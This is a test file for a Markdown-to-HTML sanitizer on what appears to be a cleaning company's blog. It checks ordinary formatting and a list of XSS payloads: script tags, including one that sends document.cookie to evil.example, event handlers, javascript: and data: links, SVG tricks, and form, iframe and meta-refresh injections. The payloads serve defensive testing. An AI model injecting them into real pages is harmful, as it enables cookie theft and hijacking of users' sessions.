import { describe, expect, it } from 'vitest'
import { markdownToHtml } from './markdown.ts'

describe('markdownToHtml', () => {
  it('keeps what articles use: headings, lists, links, emphasis', () => {
    const html = markdownToHtml(
      '## Before you start\n\n1. Vacuum\n2. Blot\n\n- *gently*\n- **firmly**\n\n[Book us](/contact) or [call](tel:+254712345678).',
    )
    expect(html).toContain('<h2>Before you start</h2>')
    expect(html).toContain('<ol>\n<li>Vacuum</li>\n<li>Blot</li>\n</ol>')
    expect(html).toContain('<li><em>gently</em></li>')
    expect(html).toContain('<li><strong>firmly</strong></li>')
    expect(html).toContain('<a href="/contact">Book us</a>')
    expect(html).toContain('<a href="tel:+254712345678">call</a>')
  })

  it('turns a level-one heading into level two, as the post title is the only h1', () => {
    expect(markdownToHtml('# Title')).toBe('<h2>Title</h2>\n')
  })

  const payloads: [string, string][] = [
    ['a script tag', 'Hello <script>alert(1)</script> world'],
    ['a script tag in a block', '<script>\nfetch("https://evil.example/"+document.cookie)\n</script>'],
    ['an image with onerror', '<img src=x onerror="alert(1)">'],
    ['an event handler on an allowed tag', '<p onclick="alert(1)" onmouseover=alert(2)>Click</p>'],
    ['a javascript: link in Markdown', '[click me](javascript:alert(1))'],
    ['a javascript: link in HTML', '<a href="javascript:alert(1)">x</a>'],
    ['an obfuscated javascript: link', '<a href="jav&#x09;ascript:alert(1)">x</a> [y](JaVaScRiPt:alert(2))'],
    ['a data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['an SVG with onload', '<svg onload="alert(1)"><circle r="10"/></svg>'],
    ['an SVG with a script inside', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">x</a></svg>'],
    ['an SVG animate trick', '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>'],
    ['an iframe', '<iframe src="javascript:alert(1)"></iframe>'],
    ['a style attribute and tag', '<p style="background:url(javascript:alert(1))">x</p><style>*{}</style>'],
    ['a form', '<form action="https://evil.example"><input name="pin"><button>Go</button></form>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['an object', '<object data="https://evil.example/x.swf"></object>'],
  ]

  it.each(payloads)('makes %s inert', (_name, payload) => {
    const html = markdownToHtml(payload)
    expect(html).not.toMatch(/<(script|svg|iframe|img|style|form|input|button|meta|object|animate)\b/i)
    expect(html).not.toMatch(/\son[a-z]+\s*=/i)
    expect(html).not.toMatch(/(javascript|data|vbscript):/i)
    expect(html).not.toMatch(/\sstyle\s*=/i)
  })

  it('keeps the harmless words around a removed payload', () => {
    expect(markdownToHtml('Hello <script>alert(1)</script> world')).toBe('<p>Hello  world</p>\n')
    expect(markdownToHtml('<p onclick="alert(1)">Click</p>')).toBe('<p>Click</p>')
  })
})
